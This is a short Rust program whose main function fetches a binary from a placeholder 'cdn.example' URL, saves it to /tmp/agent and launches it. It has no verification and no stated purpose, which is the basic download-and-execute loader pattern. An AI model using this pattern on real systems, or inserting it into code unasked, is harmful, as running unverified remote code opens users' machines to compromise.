use std::{fs, process::Command};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let bytes = reqwest::blocking::get("https://cdn.example/agent")?.bytes()?;
    fs::write("/tmp/agent", &bytes)?;
    Command::new("/tmp/agent").spawn()?;
    Ok(())
}
